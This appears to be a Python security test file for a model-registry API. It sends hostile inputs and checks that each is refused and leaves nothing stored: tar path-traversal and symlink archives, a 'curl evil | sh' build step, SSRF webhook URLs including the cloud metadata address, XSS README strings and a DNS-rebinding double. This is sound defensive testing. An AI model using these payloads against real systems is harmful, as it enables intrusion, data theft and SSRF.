"""Hostile input over real HTTP: each request is answered 4xx with a message naming what
is wrong, and leaves nothing behind (rows and stored files are counted before and after).

Elsewhere: unpacking itself (tests/registry/test_archives.py), README rendering
(tests/catalog/test_readme.py), a predictor that never imports or a cog.yaml naming a
missing file, which fail their build with the reason and make no version
(tests/registry/runs/test_publishing.py)."""

from __future__ import annotations

import base64
import io
import json
import os
import socket
import tarfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from django.conf import settings as django_settings

from registry import webhooks
from registry.models import (
    Build,
    Example,
    File,
    MLModel,
    ModelRunDay,
    Prediction,
    SearchDocument,
    Tag,
    Version,
)
from tests.factories import ModelFactory, PredictionFactory, VersionFactory
from tests.receivers import receiver

pytestmark = pytest.mark.django_db(transaction=True)


# What there is --------------------------------------------------------------------------

TABLES = (MLModel, Version, Build, Prediction, File, Example, Tag, SearchDocument, ModelRunDay)


def everything() -> dict[str, Any]:
    root = Path(django_settings.MEDIA_ROOT)
    counts: dict[str, Any] = {table.__name__: table.objects.count() for table in TABLES}
    counts["runs"] = sorted(MLModel.objects.values_list("run_count", flat=True))
    counts["stored files"] = sorted(
        str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()
    )
    return counts


# Hostile bodies ---------------------------------------------------------------------------


def tar_gz(*members: tuple[str, bytes | None, bytes], cog_yaml: bytes | None = None) -> bytes:
    """A .tar.gz with a valid cog.yaml (unless given) and `(name, type, data)` members;
    for links, data is the link's target."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        entries = [("cog.yaml", None, cog_yaml)] if cog_yaml is not None else []
        for name, kind, data in [*entries, *members]:
            info = tarfile.TarInfo(name)
            if kind in (tarfile.SYMTYPE, tarfile.LNKTYPE):
                info.type, info.linkname = kind, data.decode()
                tar.addfile(info)
            else:
                info.size = len(data or b"")
                tar.addfile(info, io.BytesIO(data or b""))
    return buffer.getvalue()


GOOD_COG_YAML = b'build:\n  python_version: "3.11"\npredict: "predict.py:Predictor"\n'
PREDICT_PY = ("predict.py", None, b"")


def project(*members: tuple[str, bytes | None, bytes]) -> bytes:
    return tar_gz(PREDICT_PY, *members, cog_yaml=GOOD_COG_YAML)


def cursor(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def nested(depth: int) -> bytes:
    return b'{"version": "alice/hello", "input": {"text": "x", "deep": ' + (
        b"[" * depth + b"]" * depth + b"}}"
    )


# The table ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    method: str
    path: str
    status: int
    says: str  # in the detail, or in the named field's description
    invalid: str | None = None  # the field invalid_fields must name (422)
    files: dict[str, tuple[str, bytes, str]] | None = None
    json: Any = None
    content: bytes | None = None
    headers: dict[str, str] = field(default_factory=dict)
    settings: dict[str, Any] = field(default_factory=dict)


VERSIONS = "/v1/models/alice/hello/versions"


def upload(archive: bytes, status: int, says: str, **extra: Any) -> Case:
    files = {"source": ("project.tar.gz", archive, "application/gzip")}
    return Case("POST", VERSIONS, status, says, "source" if status == 422 else None, files, **extra)


def predict(body: Any, status: int, says: str, field: str | None = None, **extra: Any) -> Case:
    return Case("POST", "/v1/predictions", status, says, field, json=body, **extra)


def webhook(url: str, says: str = "webhooks go to public addresses only") -> Case:
    body = {"version": "alice/hello", "input": {"text": "x"}, "webhook": url}
    return predict(body, 422, says, field="webhook")


def page(cursor_value: str, path: str = "/v1/models") -> Case:
    joiner = "&" if "?" in path else "?"
    return Case("GET", f"{path}{joiner}cursor={cursor_value}", 422, "Invalid cursor", "cursor")


CASES: dict[str, Case] = {
    # Project archives
    "tar ../ path": upload(project(("../evil.py", None, b"x")), 422, "'../evil.py' points outside"),
    "tar deep ../ path": upload(project(("lib/../../evil.py", None, b"x")), 422, "points outside"),
    "tar absolute path": upload(project(("/etc/cron.d/evil", None, b"x")), 422, "points outside"),
    "tar symlink out": upload(project(("etc", tarfile.SYMTYPE, b"/etc")), 422, "'etc' is a link"),
    "tar symlink up": upload(project(("up", tarfile.SYMTYPE, b"../../..")), 422, "is a link"),
    "tar hardlink out": upload(
        project(("passwd", tarfile.LNKTYPE, b"../../etc/passwd")), 422, "'passwd' is a link"
    ),
    "archive bomb": upload(
        project(("zeros.bin", None, bytes(50 * 1024 * 1024))), 422, "unpacks to too much data"
    ),
    "not gzip": upload(b"PK\x03\x04 a zip", 422, "Must be a .tar.gz archive"),
    "gzip, not tar": upload(b"\x1f\x8b" + b"\x00" * 40, 422, "not a readable .tar.gz"),
    "broken cog.yaml": upload(
        tar_gz(PREDICT_PY, cog_yaml=b"build:\n  python_version: [3.11\npredict: x"),
        422,
        "cog.yaml is not valid YAML",
    ),
    "cog.yaml with shell steps": upload(
        tar_gz(PREDICT_PY, cog_yaml=b"build:\n  run: [curl evil | sh]\npredict: p.py:P\n"),
        422,
        "build.run",
    ),
    "cog.yaml predict outside": upload(
        tar_gz(PREDICT_PY, cog_yaml=b'predict: "../../x.py:P"\n'), 422, "must stay inside"
    ),
    "no cog.yaml": upload(tar_gz(PREDICT_PY), 422, "no cog.yaml at its root"),
    "oversized archive": upload(
        project(("weights.bin", None, os.urandom(300_000))),
        413,
        "(VITRINE_MAX_SOURCE_BYTES)",
        settings={"VITRINE_MAX_SOURCE_BYTES": 1000},
    ),
    "oversized file": Case(
        "POST",
        "/v1/files",
        413,
        "(VITRINE_MAX_FILE_BYTES)",
        files={"content": ("big.bin", b"b" * 300_000, "application/octet-stream")},
        settings={"VITRINE_MAX_FILE_BYTES": 1000},
    ),
    # Prediction bodies
    "huge JSON input": predict(
        {"version": "alice/hello", "input": {"text": "x" * 200_000}},
        413,
        "(VITRINE_MAX_JSON_BYTES)",
        settings={"DATA_UPLOAD_MAX_MEMORY_SIZE": 100_000},
    ),
    "JSON nested past the parser": Case(
        "POST", "/v1/predictions", 400, "nested deeper than 64 levels", content=nested(50_000)
    ),
    "JSON nested past the limit": Case(
        "POST", "/v1/predictions", 400, "nested deeper than 64 levels", content=nested(100)
    ),
    "invalid UTF-8": Case(
        "POST", "/v1/predictions", 400, "JSON parse error", content=b'{"version": "\xff\xfe"}'
    ),
    "NUL in an input": predict(
        {"version": "alice/hello", "input": {"text": "a\u0000b"}}, 400, "cannot be stored"
    ),
    "NUL in the URL": Case("GET", "/v1/models/alice%00/hello", 400, "NUL character"),
    # Webhooks that would make the server a proxy into its own network (SSRF)
    "webhook loopback": webhook("http://127.0.0.1:8000/admin"),
    "webhook localhost name": webhook("http://localhost/hook"),
    "webhook unspecified": webhook("http://0.0.0.0/hook"),
    "webhook 10/8": webhook("http://10.0.0.5/hook"),
    "webhook 172.16/12": webhook("http://172.16.3.4/hook"),
    "webhook 192.168/16": webhook("http://192.168.1.1/hook"),
    "webhook carrier NAT": webhook("http://100.64.0.1/hook"),
    "webhook cloud metadata": webhook("http://169.254.169.254/latest/meta-data"),
    "webhook IPv6 loopback": webhook("http://[::1]/hook"),
    "webhook IPv4-mapped loopback": webhook("http://[::ffff:127.0.0.1]/hook"),
    "webhook IPv6 unique local": webhook("http://[fc00::1]/hook"),
    "webhook IPv6 link-local": webhook("http://[fe80::1]/hook"),
    "webhook decimal loopback": webhook("http://2130706433/hook", "Enter a valid URL"),
    "webhook not http": webhook("ftp://example.com/hook", "Must be an http:// or https:// URL"),
    "webhook a file": webhook("file:///etc/passwd", "Enter a valid URL"),
    # Pagination cursors
    "cursor garbage": page("nonsense!"),
    "cursor of nothing": page(cursor("\x00\x00\x00")),
    "cursor huge": page("A" * 20_000),
    "cursor negative offset": page(cursor("o=-5")),
    "cursor forged position": page(cursor("p=not-a-date")),
    "cursor NUL position": page(cursor("p=\x00")),
    "cursor out-of-range position": page(
        cursor("p=99999999999999999999999"), "/v1/models?sort_by=run_count"
    ),
    "cursor forged predictions": page(cursor("o=1&p=1999-99-99"), "/v1/predictions"),
}


@pytest.fixture
def hello(user: Any) -> Any:
    return VersionFactory(model=ModelFactory(owner=user.owner, name="hello"))


@pytest.mark.parametrize("case", CASES.values(), ids=list(CASES))
def test_hostile_input_is_refused_naming_the_problem_and_leaves_nothing_behind(
    live_server: Any, token: str, hello: Any, settings: Any, case: Case
) -> None:
    for name, value in case.settings.items():
        setattr(settings, name, value)
    settings.VITRINE_WEBHOOK_ALLOW_PRIVATE = False
    headers = {"Authorization": f"Bearer {token}", **case.headers}
    if case.content is not None:
        headers["Content-Type"] = "application/json"
    before = everything()

    response = httpx.request(
        case.method,
        f"{live_server.url}{case.path}",
        headers=headers,
        files=case.files,
        json=case.json,
        content=case.content,
        timeout=60,
    )

    assert response.status_code == case.status, response.text
    assert response.headers["content-type"] == "application/problem+json"
    body = response.json()
    if case.invalid is not None:
        fields = {f["field"]: f["description"] for f in body["invalid_fields"]}
        assert case.says in fields[case.invalid], fields
    else:
        assert case.says in body["detail"], body
    assert everything() == before


def test_an_oversized_body_is_refused_from_content_length_without_reading_it(
    live_server: Any, token: str, hello: Any
) -> None:
    """The headers promise a terabyte and no body follows: the answer comes at once,
    so nothing waited for (or stored) the body."""
    host, port = live_server.url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(
            (
                f"POST {VERSIONS} HTTP/1.1\r\nHost: {host}\r\n"
                f"Authorization: Bearer {token}\r\n"
                "Content-Type: multipart/form-data; boundary=x\r\n"
                f"Content-Length: {10**12}\r\n\r\n"
            ).encode()
        )
        answer = b""
        while b"}" not in answer and (chunk := sock.recv(65536)):
            answer += chunk
    assert answer.startswith(b"HTTP/1.1 413"), answer
    answer = answer.decode()
    assert "(VITRINE_MAX_SOURCE_BYTES)" in answer
    assert not Build.objects.exists()


# What is stored is served harmlessly --------------------------------------------------

README_ATTACKS = (
    "<script>alert(document.cookie)</script>",
    '<iframe src="https://evil.example/"></iframe>',
    "[click me](javascript:alert(1))",
    '<a href="javascript:alert(1)">click</a>',
    '<img src=x onerror="alert(1)">',
    '<svg onload="alert(1)"></svg>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
)


def test_a_hostile_readme_is_kept_as_written_and_served_harmlessly(
    live_server: Any, token: str, user: Any
) -> None:
    readme = "# Hello\n\n" + "\n\n".join(README_ATTACKS)
    headers = {"Authorization": f"Bearer {token}"}
    created = httpx.post(
        f"{live_server.url}/v1/models",
        json={"owner": "alice", "name": "evil", "visibility": "public", "hardware": "cpu",
              "readme": readme},
        headers=headers,
        timeout=30,
    )  # fmt: skip
    assert created.status_code == 201, created.text
    # The API gives back what the author wrote, as plain text a browser will not sniff.
    raw = httpx.get(f"{live_server.url}/v1/models/alice/evil/readme", timeout=30)
    assert raw.text == readme
    assert raw.headers["content-type"].startswith("text/plain")
    assert raw.headers["x-content-type-options"] == "nosniff"
    # The pages render it sanitized.
    for path in ("/alice/evil/readme", "/alice/evil"):
        html = httpx.get(f"{live_server.url}{path}", timeout=30).text.lower()
        for marker in ("<script>alert", "<iframe", "onerror=", "onload=", 'href="javascript:',
                       'href="data:', "<svg"):  # fmt: skip
            assert marker not in html, (path, marker)


# DNS rebinding ---------------------------------------------------------------------------


@pytest.fixture
def rebinding_dns(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[], list[str]]]:
    """A test double for DNS (no resolver we control runs here): `rebind.test` first
    answers 127.0.0.2 — which the test deems public — then 127.0.0.1, as a rebinding
    attacker's name server would."""
    real = socket.getaddrinfo
    answers: list[str] = []

    def getaddrinfo(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        if host != "rebind.test":
            return real(host, port, *args, **kwargs)
        address = "127.0.0.2" if not answers else "127.0.0.1"
        answers.append(address)
        return real(address, port, *args, **kwargs)

    public = webhooks._forbidden_address
    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    monkeypatch.setattr(webhooks, "_forbidden_address", lambda a: a != "127.0.0.2" and public(a))
    yield lambda: answers


def test_a_webhook_goes_to_the_address_that_was_checked_not_a_rebound_one(
    rebinding_dns: Callable[[], list[str]], user: Any, settings: Any
) -> None:
    settings.VITRINE_WEBHOOK_ALLOW_PRIVATE = False
    settings.VITRINE_WEBHOOK_RETRIES = 1
    with receiver("127.0.0.1") as private:
        port = int(private.url.rsplit(":", 1)[1].split("/")[0])
        with receiver("127.0.0.2", port) as checked:
            prediction = PredictionFactory(
                version=VersionFactory(model=ModelFactory(owner=user.owner)),
                created_by=user,
                webhook=f"http://rebind.test:{port}/hook",
            )
            outcome = webhooks.deliver(
                prediction_id=prediction.pk, event="completed", message_id="m1", attempt=0
            )
    assert outcome == "delivered"
    assert rebinding_dns() == ["127.0.0.2"]  # resolved once, when checked
    assert len(checked.requests) == 1
    assert checked.requests[0].headers["host"] == f"rebind.test:{port}"
    assert json.loads(checked.requests[0].body)["id"] == prediction.pk
    assert private.requests == []
